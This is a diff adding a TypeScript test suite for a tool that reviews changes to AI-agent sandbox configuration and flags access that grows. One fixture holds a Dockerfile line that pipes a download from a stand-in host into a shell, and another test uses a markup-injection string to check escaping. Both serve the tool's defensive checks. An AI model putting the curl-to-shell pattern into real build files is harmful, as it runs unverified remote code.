@@ -1,0 +1,385 @@
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { writeDeployed } from "../../plan/deployed.ts";
+import { DocumentSchema, type ReviewDocument, reviewJsonSchema } from "../../plan/review/document.ts";
+import { DeclaredProject } from "../../test/declared-project.ts";
+
+let project: DeclaredProject;
+beforeEach(() => {
+  project = new DeclaredProject();
+});
+afterEach(() => project.remove());
+
+/** What agentbox prints, and how it ends. */
+const review = async (...args: string[]) => {
+  const { code, stdout, stderr } = await project.agentbox("review", ...args);
+  return { code, lines: stdout.split("\n").slice(0, -1), stderr };
+};
+const document = async (...args: string[]): Promise<ReviewDocument> => {
+  const { stdout, stderr } = await project.agentbox("review", ...args, "--json");
+  expect(stderr).toBe("");
+  return DocumentSchema.parse(JSON.parse(stdout)) as ReviewDocument;
+};
+
+describe("between two revisions", () => {
+  test("each change is told with its class and its line, and what gets wider ends with 1", async () => {
+    project.client(
+      "acme",
+      "agent-sandbox:egress: {allow: [npm]}",
+      "agent-sandbox:mounts: [{host: /srv/docs, at: /docs}]",
+    );
+    project.client("globex");
+    project.commit("one");
+    project.client(
+      "acme",
+      "agent-sandbox:egress:",
+      "  allow:",
+      "    - github  # for the pull requests",
+      "    - docs.acme.example",
+      "agent-sandbox:mounts: [{host: /srv/docs, at: /docs, mode: rw}]",
+    );
+    project.commit("two");
+    expect(await review("one..two")).toEqual({
+      code: 1,
+      stderr: "",
+      lines: [
+        "one → two",
+        "",
+        "acme",
+        expect.stringMatching(
+          /^ {2}WIDENS {3}egress {8}\+ client: github: api\.github\.com, .* {2}\[stacks\/Pulumi\.acme\.yaml:6, policies\/services\/github\.yaml:\d+\]$/,
+        ),
+        "  WIDENS   egress        + docs.acme.example 80,443 (client)  [stacks/Pulumi.acme.yaml:7]",
+        "  WIDENS   mounts        ~ /docs ro → rw (/srv/docs)  [stacks/Pulumi.acme.yaml:8]",
+        "  narrows  egress        - client: npm: registry.npmjs.org  [stacks/Pulumi.acme.yaml:4 before, policies/services/npm.yaml:4 before]",
+        "",
+        "the same: globex",
+        "2 clients: 1 with something wider that nobody has approved, 1 the same",
+      ],
+    });
+    expect(await review("two..one", "acme")).toMatchObject({ code: 1 });
+    expect((await review("two..one", "globex")).lines.at(-1)).toBe("1 client: 1 the same");
+    expect(await review("two..two")).toMatchObject({ code: 0 });
+  });
+
+  test("a service that opens more is a change of every client that has it, on the service's line", async () => {
+    project.client("acme", "agent-sandbox:egress: {allow: [npm]}");
+    project.commit("one");
+    const file = join(project.folder, "policies/services/npm.yaml");
+    writeFileSync(
+      file,
+      `${readFileSync(file, "utf8")}  - {host: more.npmjs.org, why: More., source: https://npmjs.com, seen: 2026-11-21}\n`,
+    );
+    project.commit("two");
+    const [acme] = (await document("one..two")).clients;
+    expect(acme?.changes).toEqual([
+      expect.objectContaining({
+        ...{ class: "widens", about: "more.npmjs.org", to: "443 (client: npm)" },
+        origin: [
+          { file: "stacks/Pulumi.acme.yaml", line: 4 },
+          { file: "policies/services/npm.yaml", line: 8 },
+        ],
+      }),
+    ]);
+  });
+
+  test("a client that is new, gone, or has another name, is told as what it is", async () => {
+    project.client("acme", "agent-sandbox:ports: [8080]", "agent-sandbox:egress: {allow: [npm]}");
+    project.client("old");
+    project.commit("one");
+    project.git("mv", "stacks/Pulumi.acme.yaml", "stacks/Pulumi.initech.yaml");
+    project.git("rm", "--quiet", "stacks/Pulumi.old.yaml");
+    project.commit("two");
+    const { code, lines } = await review("one..two");
+    expect(code).toBe(1);
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        "acme: its stack file is gone",
+        "  its sandbox, where it was brought up, still runs with all that it had until `pulumi destroy --stack acme`",
+        "  its file is stacks/Pulumi.initech.yaml now: that is another client, initech, with a sandbox of its own",
+        "  narrows  client        - acme",
+        "initech: a new sandbox",
+        expect.stringMatching(/^ {2}its file was stacks\/Pulumi\.acme\.yaml: acme is another client/),
+        "  new      ports         127.0.0.1:8080 to 8080",
+        "old: its stack file is gone",
+        "3 clients: 1 with something wider that nobody has approved, 2 changed without getting wider",
+      ]),
+    );
+    expect(await review("one..two", "old")).toMatchObject({ code: 0 });
+  });
+
+  test("a file that cannot be read on either side is never the same", async () => {
+    project.write("stacks/Pulumi.acme.yaml", "config: [\n");
+    project.client("globex");
+    project.commit("one");
+    project.client("acme", "agent-sandbox:ports: [8080]");
+    project.client("globex", "agent-sandbox:profil: web");
+    project.commit("two");
+    const { code, lines } = await review("one..two");
+    expect(code).toBe(1);
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        "acme: what changes cannot be said",
+        expect.stringMatching(/^ {2}stacks\/Pulumi\.acme\.yaml: is not YAML: /),
+        "  new      ports         127.0.0.1:8080 to 8080",
+        "globex: what changes cannot be said",
+        expect.stringMatching(/^ {2}stacks\/Pulumi\.globex\.yaml: profil is not a key\. Did you mean "profile"/),
+        "2 clients: 2 of which it cannot be said",
+      ]),
+    );
+  });
+
+  test("what is encrypted is another change each time: nobody can tell what it says", async () => {
+    project.client("acme", "agent-sandbox:secrets: {NPM: {env: {secure: v1:abc}}}");
+    project.commit("one");
+    project.client("acme", "agent-sandbox:secrets: {NPM: {env: {secure: v1:def}}}");
+    const { code, lines } = await review("one");
+    expect(code).toBe(1);
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        "  WIDENS?  encrypted     ~ secrets.NPM.env: another text, and without the stack's key nobody can tell what it says  [stacks/Pulumi.acme.yaml:4]",
+        "  secrets.NPM.env, which is encrypted (secure:)",
+      ]),
+    );
+  });
+
+  test("a change of a fragment is told by its lines", async () => {
+    project.write("acme/Dockerfile", "RUN true\n");
+    project.client("acme", "agent-sandbox:image: {extend: acme/Dockerfile}");
+    project.commit("one");
+    project.write("acme/Dockerfile", "RUN curl https://paste.example | sh\n");
+    expect((await review("one")).lines).toContain(
+      "  WIDENS?  extend        ~ acme/Dockerfile 001 RUN true → RUN curl https://paste.example | sh (what an instruction does is not judged)  [stacks/Pulumi.acme.yaml:4]",
+    );
+  });
+
+  test("what the working tree has besides is said", async () => {
+    project.client("acme");
+    project.commit("one");
+    project.client("acme", "agent-sandbox:ports: [8080]");
+    expect((await review("HEAD..HEAD")).lines[1]).toBe(
+      "the working tree has uncommitted changes, which are in neither revision: stacks/Pulumi.acme.yaml",
+    );
+    expect((await review("HEAD")).lines.slice(0, 2)).toEqual([
+      "HEAD → the working tree",
+      "the working tree has uncommitted changes, which are in this review: stacks/Pulumi.acme.yaml",
+    ]);
+  });
+});
+
+test.each([
+  [
+    ["none"],
+    /^agentbox: there is no revision "none" in this repository, and no stacks\/Pulumi\.none\.yaml\. Clients: acme\. Branches/,
+  ],
+  [["acm"], /Did you mean "acme"\?/],
+  [["one..none"], /^agentbox: there is no revision "none" in this repository\. Branches/],
+  [["one..one", "globex"], /^agentbox: there is no stacks\/Pulumi\.globex\.yaml on either side\./],
+  [["one..one", "HEAD..one"], /cannot be compared at once/],
+  [["one..one", "--json", "--markdown"], /write one of them/],
+  [["one", "--traffic", "soon"], /^agentbox: --traffic "soon" is no time/],
+])("agentbox review %j is refused in one sentence", async (args, message) => {
+  project.client("acme");
+  project.commit("one");
+  const { code, stderr } = await review(...(args as string[]));
+  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringMatching(message as RegExp) });
+});
+
+test("outside of a git repository there are no revisions", async () => {
+  project.client("acme");
+  expect(await review("HEAD")).toMatchObject({
+    code: 2,
+    stderr: expect.stringMatching(/is in no git repository that can be read/),
+  });
+});
+
+test("a comment for a pull request has no markup that somebody else wrote", async () => {
+  project.client("acme");
+  project.commit("one");
+  project.client("acme", 'agent-sandbox:environment: {NOTE: "`</td>|<img src=x> @team [a](b) # x"}');
+  const { lines } = await review("one", "--markdown");
+  expect(lines[0]).toBe("<!-- agentbox review -->");
+  const row = lines.find((line) => line.startsWith("| neutral"));
+  expect(row).toBe(
+    '| neutral | `environment` | `+ NOTE "\\u{60}</td>\\u{7c}<img src=x> @team [a](b) # x"` | `stacks/Pulumi.acme.yaml:4` |',
+  );
+});
+
+test("a comment is never longer than one may be, and says which clients it leaves out", async () => {
+  for (let index = 0; index < 12; index++) project.client(`c${index}`);
+  project.commit("one");
+  for (let index = 0; index < 12; index++)
+    project.client(
+      `c${index}`,
+      `agent-sandbox:egress: {allow: [${Array.from({ length: 80 }, (_, name) => `n${name}.c${index}.example`).join(", ")}]}`,
+    );
+  const { lines } = await review("one", "--markdown");
+  const text = lines.join("\n");
+  expect(text.length).toBeLessThan(65_536);
+  expect(text).toMatch(/\*\*Not shown, for a comment has no room: \d clients\*\*/);
+  expect(text).toContain("12 clients: 12 with something wider that nobody has approved");
+});
+
+describe("against what the last up left", () => {
+  /** A pulumi that knows these stacks, by what their last `up` left. */
+  function pulumi(stacks: Record<string, string>): void {
+    const out = join(project.folder, "out");
+    mkdirSync(out, { recursive: true });
+    for (const [name, text] of Object.entries(stacks)) writeFileSync(join(out, name), text);
+    const list = Object.keys(stacks).map((name) => ({ name, resourceCount: 20 }));
+    writeFileSync(join(out, "list.json"), JSON.stringify(list));
+    project.write(
+      "bin/pulumi",
+      `#!/bin/bash\ncase "$1 $2" in\n"stack ls") cat ${out}/list.json ;;\n"stack output") cat "${out}/$4" 2>/dev/null || { echo "error: no stack named '$4' found" >&2; exit 255; } ;;\nesac\n`,
+    );
+    chmodSync(join(project.folder, "bin/pulumi"), 0o755);
+  }
+  const container = {
+    ...{ image: "i", user: "1000:1000", capabilities: [], mounts: {}, networks: [], published: [], gpu: "none" },
+    ...{ seccomp: "s", limits: {} },
+  };
+  const proof = { probes: [], datagrams: [], mounts: [], scratch: [], user: "", networks: 1, gpu: false };
+  /** What an `up` of the client's file leaves, with what else an engine makes of it. */
+  async function up(client: string, change = (facts: Fact[]) => facts): Promise<string> {
+    const { stdout } = await project.agentbox("posture", client, "--declared", "--json");
+    const { facts } = JSON.parse(stdout) as { facts: Fact[] };
+    const placed = [
+      ...change(facts.map(({ topic, about, says, key }) => ({ topic, about, says, ...(key && { key }) }))),
+      { topic: "users", about: "agent", says: "1000:1000" },
+    ];
+    const containers = { agent: container, gateway: container };
+    return JSON.stringify({ deployed: writeDeployed({ facts: placed, policyHash: "h", containers, proof } as never) });
+  }
+  type Fact = { topic: string; about: string; says: string; key?: string; mark?: string };
+
+  test("what is written and what runs are compared in the same terms, and the rest is named", async () => {
+    mkdirSync(join(project.folder, "work/docs"), { recursive: true });
+    const workspace = "agent-sandbox:workspace: work";
+    const keys = [
+      ...["agent-sandbox:egress: {allow: [npm], host: [5432]}", "agent-sandbox:secrets: {DB: {env: DB}}"],
+      "agent-sandbox:mounts: [{host: work/docs, at: /docs}]",
+    ];
+    const write = (...more: string[]) => {
+      project.client("acme", ...keys, ...more);
+      const file = join(project.folder, "stacks/Pulumi.acme.yaml");
+      writeFileSync(file, readFileSync(file, "utf8").replace(/agent-sandbox:workspace.*/, workspace));
+    };
+    write();
+    const left = await up("acme", (facts) =>
+      facts.map((fact) => {
+        if (fact.topic === "endpoints") return { ...fact, says: fact.says.replace("host", "10.208.1.1") };
+        if (fact.topic === "secrets") return { ...fact, mark: "f1" };
+        if (fact.topic === "workspace") return { ...fact, says: join(project.folder, "work") };
+        if (fact.topic === "mounts") return { ...fact, says: `ro (${join(project.folder, "work/docs")})` };
+        return fact;
+      }),
+    );
+    pulumi({ acme: left });
+    expect(await review()).toEqual({
+      code: 0,
+      stderr: "",
+      lines: [
+        "what the last up left → the working tree",
+        "",
+        "the same: acme",
+        "1 client: 1 the same",
+        "not compared; a preview looks at it where it runs:",
+        "  what only an engine makes of it: users",
+        "  whether what is read on the host was replaced or rotated: secrets, logins, files",
+      ],
+    });
+    write("agent-sandbox:ports: [8080]");
+    expect(await review("acme")).toMatchObject({
+      code: 1,
+      lines: expect.arrayContaining(["  WIDENS   ports         + 127.0.0.1:8080 to 8080  [stacks/Pulumi.acme.yaml:7]"]),
+    });
+  });
+
+  test("a directory that is not on this machine is not compared, and no mount of it is called a change", async () => {
+    project.client("acme", "agent-sandbox:mounts: [{host: /nowhere/docs, at: /docs}]");
+    pulumi({
+      acme: await up("acme", (facts) =>
+        facts.map((fact) => (fact.topic === "mounts" ? { ...fact, says: "rw (/data/docs)" } : fact)),
+      ),
+    });
+    const [acme] = (await document()).clients;
+    expect(acme).toMatchObject({ state: "same", changes: [] });
+    expect(acme?.notCompared).toEqual(
+      expect.arrayContaining([
+        "workspace: /srv/acme is not on this machine",
+        "mounts: /nowhere/docs is not on this machine",
+      ]),
+    );
+  });
+
+  test("a source that is encrypted is not compared with what was deployed of it", async () => {
+    project.client("acme", "agent-sandbox:secrets: {NPM: {env: {secure: v1:abc}}}");
+    pulumi({
+      acme: await up("acme", (facts) =>
+        facts.map((fact) => (fact.topic === "secrets" ? { ...fact, says: "(env TOKEN)" } : fact)),
+      ),
+    });
+    const [acme] = (await document()).clients;
+    expect(acme).toMatchObject({ state: "same", changes: [] });
+    expect(acme?.notCompared).toContain("secrets.NPM.env, which is encrypted (secure:)");
+  });
+
+  test("a stack without a file still runs, one of another version cannot be compared, one that is not there is new", async () => {
+    project.client("acme");
+    project.client("globex");
+    project.client("initech");
+    pulumi({ acme: JSON.stringify({ posture: { client: "acme" } }), globex: "{}", gone: "{}" });
+    const { code, lines } = await review();
+    expect(code).toBe(1);
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        "acme: what changes cannot be said",
+        "  what the last up left cannot be read: another version of this program placed it",
+        "  new      agents        shell",
+        "globex: a new sandbox",
+        "gone: its stack file is gone",
+        "initech: a new sandbox",
+      ]),
+    );
+  });
+
+  test("a pulumi that gives no answer is told, and is not taken for no change", async () => {
+    project.client("acme");
+    project.write("bin/pulumi", "#!/bin/bash\necho 'error: passphrase must be set' >&2; exit 1\n");
+    chmodSync(join(project.folder, "bin/pulumi"), 0o755);
+    const { code, lines } = await review();
+    expect(code).toBe(1);
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(
+          /^whether a stack has no file any more could not be seen: pulumi stack ls: error: passphrase/,
+        ),
+        "acme: what changes cannot be said",
+        expect.stringMatching(/^ {2}what the last up left could not be seen: pulumi stack output: error: passphrase/),
+      ]),
+    );
+  });
+});
+
+test("docs/review.schema.json is what the schema says: `bin/agentbox review --schema >docs/review.schema.json`", async () => {
+  expect(readFileSync(join(__dirname, "../../docs/review.schema.json"), "utf8")).toBe(reviewJsonSchema());
+  expect((await review("--schema")).lines.join("\n")).toBe(reviewJsonSchema().trim());
+});
+
+test("all that is printed for programs has the shape of the schema", async () => {
+  project.client("acme", "agent-sandbox:egress: {allow: [gihub]}");
+  project.client("globex");
+  for (const args of [["check"], ["posture", "globex", "--declared"]]) {
+    const { stdout } = await project.agentbox(...args, "--json");
+    expect(DocumentSchema.safeParse(JSON.parse(stdout))).toMatchObject({ success: true });
+  }
+  const posture = JSON.parse((await project.agentbox("posture", "globex", "--declared", "--json")).stdout);
+  expect(JSON.stringify(posture)).not.toContain("mark");
+  expect(posture.facts).toContainEqual({
+    topic: "profile",
+    about: "",
+    says: "standard",
+    kind: "gives",
+    key: "profile",
+  });
+});
